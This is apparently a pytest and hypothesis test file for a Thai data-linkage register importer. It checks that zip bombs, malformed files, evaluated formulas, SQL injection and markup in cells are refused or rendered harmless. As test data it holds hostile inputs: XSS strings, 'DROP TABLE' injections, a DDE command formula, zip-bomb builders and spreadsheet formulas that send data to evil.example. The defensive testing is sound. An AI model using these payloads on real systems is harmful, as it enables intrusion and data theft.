"""A corpus of bad files, built here: each is refused clearly (the store untouched) or imported
safely; random cell values never crash the loaders; user text never becomes a link or HTML."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from loaders import safety
from loaders.importer import check_file, import_bytes
from loaders.reader import FileRefused, read_table
from loaders.store import open_store
from loaders.validate import validate
from tests.fingerprint import file_sha256, store_contents
from tests.sheets import cli_import, rows_csv, rows_xlsx
from ui.shell import plain

HEADERS = ["รหัสการเชื่อมโยง", "หน่วยงานคู่เชื่อมโยง", "ทิศทางการเชื่อมโยง", "ชุดข้อมูล", "สถานะ"]
GOOD_ROW = ["BAD-001", "กรมทดสอบ", "outbound", "ข้อมูลทดสอบ", "requested"]
INJECTION = "'; DROP TABLE linkages; --"
HOSTILE_TEXT = [
    "<script>alert('x')</script>",
    '<img src=x onerror="alert(1)">',
    "[คลิกที่นี่](javascript:alert(1))",
    "![](http://tracker.example/p.png)",
    "<a href='http://evil.example'>กรม</a>",
    ":red[ด่วน] :material/warning: $x^2$",
    "**ตัวหนา** _เอียง_ `code` ~~ขีด~~",
    "www.evil.example and http://evil.example/x and staff@evil.example",
    '=HYPERLINK("http://evil.example","กรม")',
    "กรม ก.พ. (ส่วนกลาง)",
]


_xlsx = rows_xlsx
_csv = rows_csv


def _with_part(data: bytes, name: str, content: bytes) -> bytes:
    """A copy of a zip (an xlsx) with one more part, deflated."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        dst.writestr(name, content, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _replace_part(data: bytes, name: str, edit) -> bytes:
    """A copy of a zip (an xlsx) with one part's text changed by `edit`."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            body = src.read(item.filename)
            if item.filename == name:
                body = edit(body.decode("utf-8")).encode("utf-8")
            dst.writestr(item, body, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _refused(data: bytes, name: str) -> FileRefused:
    """The refusal of a file (fails the test if it is read)."""
    with pytest.raises(FileRefused) as refused:
        check_file(data, name, "register")
    assert refused.value.th and refused.value.en
    return refused.value


@pytest.fixture
def store(tmp_path: Path) -> Path:
    """A store file holding one good register row."""
    path = tmp_path / "linkage.duckdb"
    con = open_store(path)
    import_bytes(con, _csv([HEADERS, GOOD_ROW]), "good.csv", "register")
    con.execute("CHECKPOINT")
    con.close()
    return path


# --- refused whole: the store untouched --------------------------------------------------------
def _zip_bomb() -> bytes:
    """A real workbook carrying a 60 MB part of zeros (about 60 KB compressed)."""
    return _with_part(_xlsx([HEADERS, GOOD_ROW]), "xl/media/image1.bin", bytes(60 * 1024 * 1024))


def _bomb_sheet() -> bytes:
    """A workbook whose sheet is 30 MB of the same empty rows (expands about 500 times)."""
    rows = '<row r="3"><c r="A3" t="inlineStr"><is><t>x</t></is></c></row>' * 450_000
    return _replace_part(
        _xlsx([HEADERS, GOOD_ROW]),
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace("</sheetData>", rows + "</sheetData>"),
    )


def _truncated() -> bytes:
    """The first half of a real workbook (a download cut short)."""
    data = _xlsx([HEADERS, GOOD_ROW] * 50)
    return data[: len(data) // 2]


def _word_document() -> bytes:
    """A zip that is a Word document, not a workbook."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


REFUSED = {
    "zip bomb (one part)": (_zip_bomb, "register.xlsx", "zip_bomb", "100"),
    "zip bomb (the sheet)": (_bomb_sheet, "register.xlsx", "zip_bomb", "MB"),
    "truncated xlsx": (_truncated, "register.xlsx", "unreadable", "incomplete"),
    "word document named xlsx": (_word_document, "register.xlsx", "unreadable", "not an Excel"),
    "png named xlsx": (
        lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8,
        "register.xlsx",
        "unreadable",
        "not an Excel",
    ),
    "pdf named xlsx": (
        lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n",
        "register.xlsx",
        "unreadable",
        "Excel",
    ),
    "random bytes named csv": (
        lambda: bytes((i * 7919) % 256 for i in range(4096)),
        "register.csv",
        "unreadable",
        "",
    ),
    "10 MB in one csv cell": (
        lambda: _csv([HEADERS, ["BIG-1", "ก" * (10 * 1024 * 1024), "outbound", "d", "requested"]]),
        "register.csv",
        "unreadable",
        "",
    ),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_bad_file_is_refused_and_the_store_unchanged(case, store, tmp_path):
    build, name, code, words = REFUSED[case]
    data = build()
    refusal = _refused(data, name)
    assert refusal.code == code, (refusal.code, refusal.en)
    assert words in refusal.en
    before = file_sha256(store)
    exit_code, printed = cli_import(store, data, name, tmp_path)
    assert exit_code == 2
    assert printed["refused"] is True and printed["code"] == code
    assert file_sha256(store) == before


def test_file_over_the_size_limit_is_refused_before_reading(store, tmp_path):
    assert safety.max_upload_mb() == 50  # as .streamlit/config.toml server.maxUploadSize
    data = _csv([HEADERS, GOOD_ROW]) + b"\n" * (50 * 1024 * 1024)
    refusal = _refused(data, "big.csv")
    assert refusal.code == "too_large"
    assert "50 MB" in refusal.en and "50 MB" in refusal.th
    before = file_sha256(store)
    exit_code, printed = cli_import(store, data, "big.csv", tmp_path)
    assert (exit_code, printed["code"]) == (2, "too_large")
    assert file_sha256(store) == before


def test_total_expanded_size_is_limited(monkeypatch):
    monkeypatch.setattr(safety, "MAX_UNCOMPRESSED", 64 * 1024)
    data = _xlsx(
        [HEADERS]
        + [[f"ID-{i}", f"กรม {i}", "outbound", f"ชุด {i}", "requested"] for i in range(2000)]
    )
    assert _refused(data, "many.xlsx").code == "zip_bomb"


def test_a_real_workbook_passes_the_checks():
    data = _xlsx([["ทะเบียนการเชื่อมโยงข้อมูล ปีงบประมาณ 2568"], HEADERS, GOOD_ROW])
    safety.check_upload(data, "register.xlsx")
    assert validate(read_table(data, "register.xlsx")).accepted_count == 1


# --- imported safely -----------------------------------------------------------------------------
def _with_cached_formulas(data: bytes, cached: dict[str, tuple[str, str]]) -> bytes:
    """Give formula cells the value Excel would have cached: {cell: (type, value)}."""

    def edit(xml: str) -> str:
        for cell, (kind, value) in cached.items():
            xml = re.sub(
                rf'<c r="{cell}"><f>(.*?)</f>(?:<v ?/>|<v></v>)',  # openpyxl with lxml: <v></v>
                lambda m, c=cell, k=kind, v=value: f'<c r="{c}" t="{k}"><f>{m[1]}</f><v>{v}</v>',
                xml,
            )
        return xml

    return _replace_part(data, "xl/worksheets/sheet1.xml", edit)


def test_formulas_are_read_as_cached_values_never_evaluated():
    data = _xlsx(
        [
            HEADERS + ["หมายเหตุ"],
            ["F-001", '=CONCAT("กรม","คำนวณ")', "outbound", "=1+1", "requested", "=1+1"],
            ["F-002", '=WEBSERVICE("http://evil.example/?"&A2)', "inbound", "x", "linked", None],
            ["F-003", "กรมไม่มีค่า", "inbound", "=NOW()", "linked", "=cmd|' /C calc'!A0"],
        ]
    )
    # Cached values that evaluation would never give: only reading the cache can produce them.
    data = _with_cached_formulas(
        data,
        {
            "B2": ("str", "กรมจากแคช"),
            "D2": ("n", "7"),
            "F2": ("str", "หมายเหตุจากแคช"),
            "B3": ("str", "ตอบกลับเดิม"),
            "F4": ("str", "ไม่ได้รัน"),
        },
    )
    rows = read_table(data, "formulas.xlsx", "register").frame.to_dict("records")
    assert [r["partner_name"] for r in rows] == ["กรมจากแคช", "ตอบกลับเดิม", "กรมไม่มีค่า"]
    assert rows[0]["dataset"] == "7"  # =1+1 cached as 7: not evaluated
    assert rows[0]["notes"] == "หมายเหตุจากแคช"
    assert rows[2]["dataset"] is None  # =NOW() with no cached value: empty, not today
    assert rows[2]["notes"] == "ไม่ได้รัน"


def test_html_and_markdown_in_text_cells_are_stored_as_written(tmp_path):
    rows = [HEADERS + ["หมายเหตุ"]]
    rows += [
        [f"H-{i}", text, "outbound", text, "requested", text] for i, text in enumerate(HOSTILE_TEXT)
    ]
    con = open_store(tmp_path / "x.duckdb")
    result = import_bytes(con, _csv(rows), "hostile.csv", "register")
    stored = con.execute("SELECT partner_name, notes FROM linkages ORDER BY linkage_id").fetchall()
    con.close()
    assert result.preview.validated.accepted_count == len(HOSTILE_TEXT)
    assert [r[0] for r in stored] == [t.strip() for t in HOSTILE_TEXT]
    assert [r[1] for r in stored] == [t.strip() for t in HOSTILE_TEXT]


def _injection_rows() -> list[list[str]]:
    """A register with the injection in every field of one row, then once per field."""
    from loaders.spec import REGISTER

    headers = [c.key for c in REGISTER.columns]
    base = dict(
        zip(["linkage_id", "partner_name", "direction", "dataset", "status"], GOOD_ROW, strict=True)
    )
    rows = [headers, [f"2{INJECTION}"] + [INJECTION for _ in headers[1:]]]
    for n, key in enumerate(headers):
        row = {k: "" for k in headers} | base | {"linkage_id": f"SQL-{n}", key: INJECTION}
        rows.append([row[k] for k in headers])
    return rows


def test_sql_metacharacters_in_every_field_are_data(tmp_path):
    path = tmp_path / "x.duckdb"
    con = open_store(path)
    result = import_bytes(con, _xlsx(_injection_rows()), f"{INJECTION}.xlsx", "register")
    tables = {r[0] for r in con.execute("SELECT table_name FROM duckdb_tables()").fetchall()}
    stored = dict(con.execute("SELECT linkage_id, partner_name FROM linkages").fetchall())
    uploads = con.execute("SELECT file_name FROM uploads").fetchall()
    con.close()
    assert {"linkages", "uploads", "linkage_history", "audit_log"} <= tables
    text_keys = {
        "partner_name",
        "ministry",
        "dataset",
        "data_owner_unit",
        "purpose",
        "mou_ref",
        "notes",
    }
    validated = result.preview.validated
    # Text fields take it as text; enum, date and yes/no fields reject it with a reason.
    rejected_columns = {e.column for e in validated.errors}
    assert rejected_columns.isdisjoint(text_keys)
    assert {"direction", "status", "mou_signed_on", "personal_data"} <= rejected_columns
    assert stored[INJECTION] == "กรมทดสอบ"  # in the id field (row SQL-0)
    assert stored["SQL-1"] == INJECTION  # in partner_name
    assert uploads == [(f"{INJECTION}.xlsx",)]


def test_sql_metacharacters_in_a_csv_import_or_refuse_whole(store, tmp_path):
    """Semicolons in every row can make the CSV dialect sniffer pick ';': then the file is
    refused whole (no header found) and nothing changes; otherwise it imports as data."""
    data = _csv(_injection_rows())
    before = file_sha256(store)
    code, printed = cli_import(store, data, "injection.csv", tmp_path)
    if code == 2:
        assert printed["refused"] is True and printed["message_en"]
        assert file_sha256(store) == before
    else:
        assert printed["accepted"] >= 1
    tables = store_contents(store)
    assert tables["linkages"][0] >= 1


def test_hostile_header_names_are_reported_not_used(tmp_path):
    data = _csv([HEADERS + ['x"; DROP TABLE linkages; --', "<script>"], GOOD_ROW + ["a", "b"]])
    table = read_table(data, "h.csv", "register")
    assert table.unknown_columns == ['x"; DROP TABLE linkages; --', "<script>"]
    con = open_store(tmp_path / "x.duckdb")
    import_bytes(con, data, "h.csv", "register")
    assert con.execute("SELECT count(*) FROM linkages").fetchone()[0] == 1
    con.close()


def test_ten_megabytes_in_one_xlsx_cell_is_refused_or_imported_whole(store, tmp_path):
    import random

    rng = random.Random(7)
    big = "".join(rng.choice("กขคงจฉชซabcdefgh0123456789 ") for _ in range(10 * 1024 * 1024))
    data = _xlsx([HEADERS + ["หมายเหตุ"], ["BIG-2", "กรมใหญ่", "outbound", "d", "requested", big]])
    before = store_contents(store)
    try:
        validated, _ = check_file(data, "big.xlsx", "register")
    except FileRefused as refused:
        assert refused.code in {"zip_bomb", "too_large", "unreadable"}
        assert store_contents(store) == before
        return
    con = open_store(store)
    import_bytes(con, data, "big.xlsx", "register")
    (notes,) = con.execute("SELECT notes FROM linkages WHERE linkage_id = 'BIG-2'").fetchone()
    con.close()
    # The xlsx reader keeps what Excel itself can hold in a cell: 32,767 characters.
    assert validated.accepted_count == 1
    assert 30_000 < len(notes) <= 32_767


# --- random cell values ---------------------------------------------------------------------------
CELL = st.one_of(
    st.none(),
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=40),
    st.sampled_from(
        [
            "outbound",
            "ขอข้อมูลจากหน่วยงานอื่น",
            "ยื่นคำขอ",
            "15 ส.ค. 67",
            "๑๕/๐๘/๒๕๖๗",
            INJECTION,
            "=1+1",
            "\u200b",
            "ํา",
        ]
    ),
    st.integers(-(10**12), 10**12).map(str),
    st.floats(allow_nan=True).map(str),
)
ROWS = st.lists(st.lists(CELL, min_size=5, max_size=7), min_size=0, max_size=8)
XML_SAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=ROWS, title=st.booleans())
def test_random_csv_cells_never_crash_the_loaders(rows, title):
    grid = ([["ทะเบียนการเชื่อมโยงข้อมูล"]] if title else []) + [HEADERS] + rows
    data = _csv([["" if c is None else c for c in row] for row in grid])
    try:
        validated = validate(read_table(data, "random.csv"))
    except FileRefused:
        return
    assert validated.accepted_count + validated.rejected_count <= len(rows)


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=ROWS)
def test_random_xlsx_cells_never_crash_the_loaders(rows):
    # openpyxl cannot write XML-illegal characters: drop them (a real file cannot hold them).
    clean = [[XML_SAFE.sub("", c) if isinstance(c, str) else c for c in row] for row in rows]
    data = _xlsx([HEADERS, *clean])
    try:
        validated = validate(read_table(data, "random.xlsx"))
    except FileRefused:
        return
    assert validated.accepted_count + validated.rejected_count <= len(rows)


# --- text shown in pages --------------------------------------------------------------------------
MARKUP = set("\\`*_~[]<>#|$:&{}!")
# Streamlit's Markdown (GFM) turns these into links after escapes are undone (its own patterns).
GFM_URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.I)
GFM_EMAIL = re.compile(r"(?<![-.\w+])([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)")


@pytest.mark.parametrize("text", HOSTILE_TEXT + [INJECTION, "สองบรรทัด\n# หัวข้อ\n- รายการ"])
def test_plain_escapes_every_markup_character(text):
    shown = plain(text)
    i = 0
    while i < len(shown):
        if shown[i] == "\\":
            assert shown[i + 1] in MARKUP
            i += 2
            continue
        assert shown[i] not in MARKUP, (text, shown, i)
        i += 1
    assert "\n" not in shown
    assert not GFM_URL.search(shown) and not GFM_EMAIL.search(shown)
    unescaped = re.sub(r"\\(.)", r"\1", shown).replace("\u2060", "")
    assert unescaped == " ".join(text.splitlines())  # reads exactly as written


@given(st.text(max_size=60))
def test_plain_never_leaves_markup_unescaped(text):
    shown = plain(text)
    assert not re.search(r"(?<!\\)[\[<]", shown.replace("\\\\", ""))
    original = " ".join(text.splitlines()).replace("\u2060", "")
    assert re.sub(r"\\(.)", r"\1", shown).replace("\u2060", "") == original
